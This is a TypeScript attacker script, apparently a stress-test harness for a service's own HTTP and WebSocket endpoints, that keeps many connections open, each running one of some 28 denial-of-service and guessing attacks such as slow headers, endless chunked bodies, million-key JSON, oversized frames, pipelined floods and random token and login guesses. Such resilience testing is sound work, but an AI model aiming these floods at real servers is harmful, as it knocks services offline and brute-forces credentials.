/**
 * One attacker without a token: so many connections, each with one of the attacks, opened again when it is cut off.
 * `attacker.ts URL CONNECTIONS [ATTACK…]`: with names only those.
 */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';

const [url = '', count = '100', ...only] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const HOST = `Host: ${hostname}:${port}`;
const JSON_TYPE = 'Content-Type: application/json';
const KEYS = Buffer.from(`{${Array.from({ length: 1_100_000 }, (_, i) => `"k${i}":1`).join()}}`);
/** As many keys as an open route reads. */
const FEW_KEYS = `{${Array.from({ length: 440 }, (_, i) => `"k${i}":1`).join()}}`;
const BODY = Buffer.alloc(1024 * 1024, 0x20);
const upgrade = (more = ''): string =>
  `GET /ws/agent HTTP/1.1\r\n${HOST}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n${more}\r\n`;
/** A text frame that announces 4 MiB. */
const FRAME = Buffer.from([0x81, 0xff, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0]);
/** The beginning of a handshake of TLS, and bytes that are none. */
const TLS = Buffer.concat([Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]), randomBytes(512)]);
const secret = (kind: string): string => `lh_${kind}_${randomBytes(32).toString('base64url')}`;
const bearer = (): string => `Authorization: Bearer ${secret('adm')}\r\n`;
const get = (path: string, more = ''): string => `GET ${path} HTTP/1.1\r\n${HOST}\r\n${more}\r\n`;
const post = (path: string, length: number, more = ''): string =>
  `POST ${path} HTTP/1.1\r\n${HOST}\r\n${JSON_TYPE}\r\n${more}Content-Length: ${length}\r\n\r\n`;
const posted = (path: string, body: string, more = ''): string => post(path, body.length, more) + body;
const many = (times: number, ask: () => string): string => Array.from({ length: times }, ask).join('');

type Attack = (socket: Socket) => void;

/** Asks again as soon as it was answered. */
const again =
  (ask: () => string): Attack =>
  (socket) => {
    socket.on('data', () => void socket.write(ask()));
    socket.write(ask());
  };

/** Sends a beginning, and then a piece now and then, for ever. */
const slow =
  (head: string, piece: string): Attack =>
  (socket) => {
    socket.write(head);
    const drip = setInterval(() => socket.write(piece), 500);
    socket.once('close', () => clearInterval(drip));
  };

/** As fast as the other side reads, and never reads itself. */
const pour =
  (ask: () => string): Attack =>
  (socket) => {
    socket.pause();
    const more = (): void => {
      while (!socket.destroyed && socket.write(ask()));
    };
    socket.on('drain', more);
    more();
  };

/** A WebSocket on which this is said, with a mask of zeros. */
const spoken =
  (...said: readonly (() => Buffer)[]): Attack =>
  (socket) => {
    socket.write(upgrade());
    socket.once('data', () => {
      for (const one of said) socket.write(one());
    });
  };

function frame(text: string, opcode = 0x81): Buffer {
  const data = Buffer.from(text);
  return Buffer.concat([Buffer.from([opcode, 0xfe, data.length >> 8, data.length & 0xff, 0, 0, 0, 0]), data]);
}

const connectFrame = (): Buffer =>
  frame(
    JSON.stringify({
      type: 'connect',
      name: 'honest',
      secret: secret('wrk'),
      incarnation: 'x',
      slots: 1,
      tags: [],
      handlers: ['echo'],
      holding: [],
    }),
  );

const ATTACKS: Readonly<Record<string, Attack>> = {
  'unfinished bodies': (socket) => {
    socket.write(post('/ui/login', 16 * 1024 * 1024));
    const more = (): void => void (socket.write(BODY) && setTimeout(more, 10));
    socket.on('drain', more);
    more();
  },
  'slow bodies': slow(post('/ui/login', 4000), ' '),
  'bodies without an end': (socket) => {
    const head = `POST /api/v1/workers/enrol HTTP/1.1\r\n${HOST}\r\n${JSON_TYPE}\r\nTransfer-Encoding: chunked\r\n\r\n`;
    socket.write(head);
    pour(() => `1000\r\n${' '.repeat(4096)}\r\n`)(socket);
  },
  'a million keys': (socket) => {
    socket.write(post('/ui/login', KEYS.length));
    socket.write(KEYS);
  },
  'a million keys with a wrong token': (socket) => {
    socket.write(post('/api/v1/tasks', KEYS.length, bearer()));
    socket.write(KEYS);
  },
  'many keys': again(() => posted('/ui/login', FEW_KEYS)),
  'first frames': spoken(
    () => FRAME,
    () => BODY,
    () => BODY,
  ),
  'long frames after a wrong secret': spoken(
    connectFrame,
    () => FRAME,
    () => BODY,
    () => BODY,
    () => BODY,
    () => BODY.subarray(1),
  ),
  'junk frames': spoken(() => randomBytes(2000)),
  'wrong secrets of workers': spoken(connectFrame),
  'half-open WebSockets': (socket) => {
    socket.write(upgrade());
    const ping = setInterval(() => socket.write(frame('x'.repeat(100), 0x89)), 500);
    socket.once('close', () => clearInterval(ping));
  },
  'large heads of upgrades': (socket) => {
    socket.once('data', () => socket.destroy());
    socket.write(upgrade(`${bearer()}X-Long: ${'x'.repeat(15_000)}\r\n`));
  },
  'slow heads': slow(`GET /healthz HTTP/1.1\r\n${HOST}\r\n`, 'X-Slow: 1\r\n'),
  'large heads': again(() =>
    get(
      '/healthz',
      many(300, () => `X-${secret('x').slice(5, 20)}: 1\r\n`),
    ),
  ),
  'pipelined requests': again(() => many(500, () => get('/healthz'))),
  'pipelined guesses': again(() => many(200, () => posted('/api/v1/tasks', '{}', bearer()))),
  'answers that nobody reads': pour(() => many(100, () => get('/.well-known/agent-card.json'))),
  'bytes that are no request': (socket) => {
    socket.once('data', () => socket.destroy());
    socket.write(TLS);
  },
  'connections that end at once': (socket) => void socket.destroy(),
  'wrong tokens': again(() => posted('/api/v1/tasks', '{}', bearer())),
  'wrong cookies': again(() => get('/api/v1/tasks', `Cookie: leasehold_session=${secret('x')}\r\n`)),
  'wrong sessions of workers': again(() => posted('/workers/x/claim', '{}', `X-Session-Token: ${secret('x')}\r\n`)),
  'login guesses': again(() => posted('/ui/login', JSON.stringify({ code: secret('login') }))),
  'token guesses at the login': again(() => posted('/ui/login', JSON.stringify({ token: secret('adm') }))),
  'enrolment guesses': again(() => posted('/api/v1/workers/enrol', JSON.stringify({ code: secret('code') }))),
  'malformed paths': again(() => many(20, () => get('/%zz'))),
  'bodies of requests that have none': (socket) => {
    socket.write(`GET /healthz HTTP/1.1\r\n${HOST}\r\nContent-Length: 16777216\r\n\r\n`);
    pour(() => ' '.repeat(65_536))(socket);
  },
  'pages that are not there': again(() => get(`/${secret('x')}`)),
};

const kinds = Object.entries(ATTACKS).filter(([name]) => only.length === 0 || only.includes(name));
/** What it did, told at its end: a flood that never came would prove nothing. */
const did = { connections: 0, answers: 0, mib: 0, kinds: Object.fromEntries(kinds.map(([name]) => [name, 0])) };
process.once('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(did)}\n`, () => process.exit(0));
});
function attack(n: number): void {
  const socket = connect(Number(port), hostname);
  const [name, begin] = kinds[n % kinds.length] as [string, Attack];
  socket.on('error', () => {});
  socket.on('data', () => void did.answers++);
  socket.once('connect', () => {
    did.connections++;
    did.kinds[name] = (did.kinds[name] ?? 0) + 1;
    begin(socket);
  });
  socket.once('close', () => void (did.mib += socket.bytesWritten / 1024 / 1024));
  socket.once('close', () => setTimeout(() => attack(n), 50));
}
for (let n = 0; n < Number(count); n++) attack(n);
process.stdout.write('ready\n');
